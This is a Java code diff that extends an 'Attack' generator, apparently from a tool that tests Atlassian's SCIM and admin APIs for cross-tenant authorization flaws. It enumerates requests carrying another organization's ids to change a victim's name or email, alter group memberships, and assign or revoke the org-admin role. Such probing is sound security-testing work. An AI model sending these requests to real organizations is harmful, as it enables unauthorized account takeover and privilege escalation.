@@ -5,6 +5,7 @@ import java.util.List;
 import java.util.Map;
 import java.util.regex.MatchResult;
 import java.util.regex.Pattern;
+import java.util.stream.Stream;
 
 /// A request with the ids of somebody else in it.
 ///
@@ -74,6 +75,31 @@ record Attack(String method, String target, String body) {
           "PATCH /v2/orgs/{org}/groups/{group}/members",
           "{\"membersToAdd\": [\"{account}\", \"{address}\"], \"membersToRemove\": [\"{account}\"]}");
 
+  /// What routes of Atlassian's administration need besides their path. (Inviting needs nothing
+  /// here: it takes everybody, and gives no right.)
+  private static final Map<String, String> ADMINISTRATION_BODIES =
+      Map.of(
+          "POST /admin/user-provisioning/v1/org/{org}/get-scim-links-for-email",
+          "{\"email\": \"{address}\"}",
+          "PATCH /users/{account}/manage/profile",
+          "{\"name\": \"Taken\"}",
+          "PUT /users/{account}/manage/email",
+          "{\"email\": \"{address}\"}",
+          "POST /admin/v2/orgs/{org}/directories/{userDirectory}/users/search",
+          "{\"emails\": [\"{address}\"], \"expand\": [\"groups\", \"platformRoles\"]}",
+          "POST /admin/v2/orgs/{org}/directories/{userDirectory}/groups/search",
+          "{\"accountIds\": [\"{account}\"]}",
+          "POST /admin/v2/orgs/{org}/directories/{userDirectory}/groups/{group}/memberships",
+          "{\"accountId\": \"{account}\"}",
+          "POST /admin/v1/orgs/{org}/users/{account}/role-assignments/assign",
+          "{\"role\": \"atlassian/org-admin\"}",
+          "POST /admin/v1/orgs/{org}/users/{account}/role-assignments/revoke",
+          "{\"role\": \"atlassian/org-admin\"}",
+          "POST /admin/v1/orgs/{org}/users/{account}/roles/assign",
+          "{\"role\": \"atlassian/org-admin\"}",
+          "POST /admin/v1/orgs/{org}/users/{account}/roles/revoke",
+          "{\"role\": \"atlassian/org-admin\"}");
+
   private static final Pattern NAME = Pattern.compile("\\{\\w+}");
 
   private static final Map<String, String> QUERIES =
@@ -98,8 +124,10 @@ record Attack(String method, String target, String body) {
     return all;
   }
 
-  /// Every SCIM route under Atlassian's paths.
-  static List<Attack> onAtlassian() {
+  /// Every route under Atlassian's paths.
+  ///
+  /// @param routes of the administration, as `METHOD /path`
+  static List<Attack> onAtlassian(List<String> routes) {
     List<Attack> all = new ArrayList<>();
     for (String base : List.of("{base}", "{ownBase}")) {
       resources(all, base);
@@ -112,7 +140,52 @@ record Attack(String method, String target, String body) {
     members(all);
     queries(all);
     get(all, "{base}/Schemas", "{base}/ResourceTypes", "{base}/ServiceProviderConfig");
+    routes.stream()
+        .filter(route -> route.contains("{"))
+        .flatMap(route -> Stream.of(route, route.replace("{group}", "{localGroup}")).distinct())
+        .forEach(route -> onAdministration(all, route));
+    String search = "/admin/v2/orgs/{ownOrganization}/directories/{organization}/users/search";
+    all.add(new Attack("POST", search, ""));
+    for (String group : List.of("{group}", "{localGroup}")) {
+      String invited =
+          "{\"emails\": [\"new@nowhere.example\"], \"additionalGroups\": [\"%s\"]}"
+              .formatted(group);
+      String groups = "{\"groupIds\": [\"%s\"]}".formatted(group);
+      all.add(new Attack("POST", "/admin/v2/orgs/{ownOrganization}/users/invite", invited));
+      all.add(
+          new Attack(
+              "POST", "/admin/v2/orgs/{ownOrganization}/directories/-/users/search", groups));
+    }
+    String accounts = "{\"accountIds\": [\"{account}\"]}";
+    all.add(
+        new Attack(
+            "POST", "/admin/v2/orgs/{ownOrganization}/directories/-/users/search", accounts));
+    get(all, "/admin/v2/orgs/{ownOrganization}/directories?accountId={account}");
+    get(all, "/admin/v1/orgs/{ownOrganization}/domains/{domain}");
     return all;
+  }
+
+  /// With everything that the path and the body name the victim's, and in one's own organization
+  /// with each of it.
+  private static void onAdministration(List<Attack> all, String route) {
+    String method = route.split(" ")[0];
+    String target = route.split(" ")[1].replace("{org}", "{organization}");
+    String body = ADMINISTRATION_BODIES.getOrDefault(route.replace("{localGroup}", "{group}"), "");
+    String anywhere = target.replace("{userDirectory}", "-");
+    all.add(new Attack(method, anywhere, body));
+    String under = anywhere.replace("{organization}", "{ownOrganization}");
+    boolean namesSomething = NAME.matcher(under.replace("{ownOrganization}", "") + body).find();
+    if (namesSomething) {
+      all.add(new Attack(method, under, body));
+    }
+    for (String name : List.of("account", "group", "localGroup", "directory")) {
+      String own = "{own" + Character.toUpperCase(name.charAt(0)) + name.substring(1) + "}";
+      String mine = under.replace("{" + name + "}", own);
+      boolean stillNames = NAME.matcher(mine.replaceAll("\\{own\\w+}", "") + body).find();
+      if (!mine.equals(under) && stillNames) {
+        all.add(new Attack(method, mine, body));
+      }
+    }
   }
 
   /// Every route under Miro's paths; where the token names the directory, one's own is theirs.
